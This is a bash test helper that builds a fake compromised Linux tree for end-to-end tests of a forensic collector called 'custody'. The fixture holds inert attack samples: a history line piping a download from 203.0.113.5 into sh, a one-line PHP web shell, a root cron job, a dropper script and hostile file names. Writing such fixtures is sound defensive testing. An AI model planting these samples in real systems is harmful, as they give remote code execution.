# Shared helpers for the end-to-end tests. Each test sources this file; CTest sets
# CUSTODY (the binary), CUSTODY_SRC (the source tree) and CUSTODY_WORK (a work directory of
# the test's own, emptied at the start and kept on failure for a look).
set -euo pipefail

: "${CUSTODY:?CUSTODY must name the custody binary}"
: "${CUSTODY_SRC:?}"
: "${CUSTODY_WORK:?}"
rm -rf "$CUSTODY_WORK"
mkdir -p "$CUSTODY_WORK"
W=$CUSTODY_WORK
SCHEMA=$CUSTODY_SRC/docs/manifest.schema.json
PY=/usr/bin/python3

fails=0
passes=0
ok() { passes=$((passes + 1)); echo "ok: $*"; }
fail() { fails=$((fails + 1)); echo "FAIL: $*" >&2; }
check() { # check "description" command...
    local what=$1; shift
    if "$@"; then ok "$what"; else fail "$what"; fi
}
skip() { echo "SKIP: $*"; exit 77; }
finish() {
    echo "$passes passed, $fails failed"
    [ "$fails" -eq 0 ]
}

# make_fixture DIR: a small Linux-like tree with accounts, logs, histories, odd names.
make_fixture() {
    local r=$1
    mkdir -p "$r"/{etc/ssh,etc/cron.d,var/log/nginx,home/alice/.ssh,root,tmp,var/www/html,usr/bin}
    cat > "$r/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/bash
alice:x:1000:1000:Alice:/home/alice:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
P
    cat > "$r/etc/group" <<'G'
root:x:0:
alice:x:1000:
G
    echo "fixturehost" > "$r/etc/hostname"
    echo 'PRETTY_NAME="Fixture Linux 1"' > "$r/etc/os-release"
    echo "0123456789abcdef0123456789abcdef" > "$r/etc/machine-id"
    echo "root:!:19000::::::" > "$r/etc/shadow"
    echo "PermitRootLogin no" > "$r/etc/ssh/sshd_config"
    echo "* * * * * root /tmp/.x/run" > "$r/etc/cron.d/evil"
    echo "127.0.0.1 localhost" > "$r/etc/hosts"
    for i in $(seq 1 200); do echo "Feb 25 00:00:$((i % 60)) host sshd[1]: line $i"; done > "$r/var/log/auth.log"
    echo 'GET /owa/auth/x.js 200' > "$r/var/log/nginx/access.log"
    echo 'ls -la; curl http://203.0.113.5/x | sh' > "$r/home/alice/.bash_history"
    echo 'ssh-ed25519 AAAAC3Nza alice@laptop' > "$r/home/alice/.ssh/authorized_keys"
    echo 'whoami' > "$r/root/.bash_history"
    printf '#!/bin/sh\necho pwned\n' > "$r/tmp/dropper.sh"
    chmod 755 "$r/tmp/dropper.sh"
    echo 'not executable, not a script' > "$r/tmp/notes.txt"
    echo '<?php eval($_POST["x"]); ?>' > "$r/var/www/html/shell.php"
    echo 'binary' > "$r/usr/bin/ls"
    ln -s /etc/shadow "$r/var/log/link-to-shadow"
    mkfifo "$r/var/log/a.fifo"
    printf 'bad name\n' > "$r/var/log/$(printf 'bad\xffname.log')"
    printf 'newline name\n' > "$r/var/log/$(printf 'new\nline.log')"
    printf 'dash\n' > "$r/var/log/-dash|pipe	tab.log"
    touch -d '2021-02-25 12:00:00' "$r/var/log/auth.log"
}

# collect_ok ARGS...: run collect, store the archive path in $ARCHIVE (exit code in $RC).
collect() {
    set +e
    "$CUSTODY" collect "$@" > "$W/collect.out" 2> "$W/collect.err"
    RC=$?
    set -e
    ARCHIVE=$(tail -n 1 "$W/collect.out" || true)
}

# unpack ARCHIVE DIR: extract with GNU tar; STEM is the single top-level folder.
unpack() {
    rm -rf "$2"; mkdir -p "$2"
    tar -xf "$1" -C "$2"
    STEM=$(ls "$2")
    MF=$2/$STEM/manifest.json
}

# times_prepare ROOT LIST: list every non-symlink path under ROOT (NUL-separated, so any
# name works) and set their atimes to a fixed past time, so that no later read of the tree by
# the test itself (find reads directories) can be mistaken for one by the collector.
times_prepare() {
    (cd "$1" && find . ! -type l -print0 | sort -z) > "$2"
    (cd "$1" && xargs -0 touch -a -h -d '2020-01-01 00:00:00' < "$2")
}
# times_stat ROOT LIST: atime, mtime and ctime of each listed path; reads no directory.
times_stat() {
    (cd "$1" && xargs -0 stat -c '%n %X %Y %Z' < "$2")
}
